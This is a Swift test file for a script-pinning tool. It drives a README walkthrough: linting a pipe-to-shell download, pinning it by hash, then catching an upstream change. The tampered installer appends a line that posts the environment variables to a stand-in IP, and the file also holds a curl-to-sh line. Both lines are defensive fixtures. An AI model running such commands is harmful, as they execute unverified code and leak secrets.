import Foundation
import Testing
@testable import ScriptPinKit

/// The README's "First day" walkthrough, block by block as written: lint,
/// fix, hook and commit, the CI step, the nightly check and the update
/// pull request's body, in a real git repository, with the loopback HTTPS
/// server standing in for tools.example.org.
@Suite("The README's first-day walkthrough runs as written")
struct WalkthroughTests {
    let server: HTTPSFixture
    let repository = TemporaryDirectory("scriptpin-first-day")

    init() throws {
        server = try HTTPSFixture()
    }

    /// The shell blocks of the README's "First day" section, in order.
    static func walkthroughBlocks() throws -> [String] {
        let readme = try String(contentsOfFile: CommandDeclarationTests.repositoryRoot + "/README.md", encoding: .utf8)
        let start = try #require(readme.range(of: "\n## First day\n"))
        let section = readme[start.upperBound...]
        let end = section.range(of: "\n## ")?.lowerBound ?? section.endIndex
        var blocks: [String] = []
        var current: String?
        for line in section[..<end].split(separator: "\n", omittingEmptySubsequences: false) {
            if line == "```sh" { current = "" } else if line == "```", let block = current {
                blocks.append(block)
                current = nil
            } else if current != nil {
                current! += line + "\n"
            }
        }
        return blocks
    }

    private var environment: [String: String] {
        var environment = ProcessRunner.baseEnvironment(home: repository.path)
        environment["PATH"] = (ProcessRunner.scriptpinPath as NSString).deletingLastPathComponent + ":/usr/bin:/bin"
        environment["SSL_CERT_FILE"] = server.caFile
        environment[FetchOptions.connectToVariable] = server.vendorConnectTo
        environment["SCRIPTPIN_CACHE"] = repository.url(".cache")
        for role in ["AUTHOR", "COMMITTER"] {
            environment["GIT_\(role)_NAME"] = "First Day"
            environment["GIT_\(role)_EMAIL"] = "first-day@example.com"
        }
        return environment
    }

    private func run(_ block: String) -> ProcessResult {
        ProcessRunner.run("/bin/sh", ["-c", block], in: repository.path, environment: environment)
    }

    @Test("lint finds the download, --fix pins and rewrites it, the hook lets the commit through, CI runs the verified script, the nightly check sees the change and update writes the pull request's body")
    func firstDay() throws {
        let blocks = try Self.walkthroughBlocks()
        try #require(blocks.count == 7, "\(blocks)")
        server.standIn(for: "tools.example.org")
        let installer = "#!/bin/sh\necho \"installed with $*\"\n"
        server.root.write("hosts/tools.example.org/install.sh", installer)
        #expect(git(["init", "-q", "-b", "main", "."], in: repository.path).status == 0)
        repository.write("ci/build.sh", blocks[0])
        #expect(blocks[0].contains("curl -fsSL https://tools.example.org/install.sh | sh -s -- --prefix \"$HOME/.local\"\n"))

        let lint = run(blocks[1])
        #expect(lint.status == 1, "\(lint.stderr)")
        #expect(lint.stdout == """
            ci/build.sh:3:1: error: https://tools.example.org/install.sh (downloaded by curl) is piped into sh [download-exec]
              fix: scriptpin add tools-example-install https://tools.example.org/install.sh, then scriptpin run tools-example-install -- --prefix "$HOME/.local"
            1 finding in 1 file

            """, "\(lint.stdout)")

        let fix = run(blocks[2])
        #expect(fix.status == 0, "\(fix.stdout)\(fix.stderr)")
        #expect(repository.read("ci/build.sh") == "#!/bin/sh\nset -e\nscriptpin run tools-example-install -- --prefix \"$HOME/.local\"\n")
        #expect(repository.read("known-hashes/tools-example-install.pin")?.contains("\nurl https://tools.example.org/install.sh\nsha256 \(sha256Hex(installer))\n") == true)

        let commit = run(blocks[3])
        #expect(commit.status == 0, "\(commit.stdout)\(commit.stderr)")
        #expect(git(["ls-files", "known-hashes"], in: repository.path).stdout.split(separator: "\n").contains("known-hashes/tools-example-install.pin"))
        #expect(git(["status", "--porcelain", "--untracked-files=no"], in: repository.path).stdout == "")

        let ci = run(blocks[4])
        #expect(ci.status == 0, "\(ci.stderr)")
        #expect(ci.stdout.hasSuffix("installed with --prefix \(repository.path)/.local\n"), "\(ci.stdout)")

        let upstream = installer + "curl -s -d \"$(env)\" https://203.0.113.7/collect\n"
        server.root.write("hosts/tools.example.org/install.sh", upstream)
        let nightly = run(blocks[5])
        #expect(nightly.status == 1, "\(nightly.stderr)")
        #expect(nightly.stdout.contains("tools-example-install"), "\(nightly.stdout)")

        let update = run(blocks[6])
        #expect(update.status == 0, "\(update.stderr)")
        let body = try #require(repository.read("update.md"))
        #expect(body.contains("\n### `tools-example-install`: approved\n"), "\(body)")
        #expect(body.contains("+curl -s -d \"$(env)\" https://203.0.113.7/collect\n"), "\(body)")
        #expect(repository.read("known-hashes/tools-example-install.pin")?.contains("sha256 \(sha256Hex(upstream))\n") == true)
    }
}
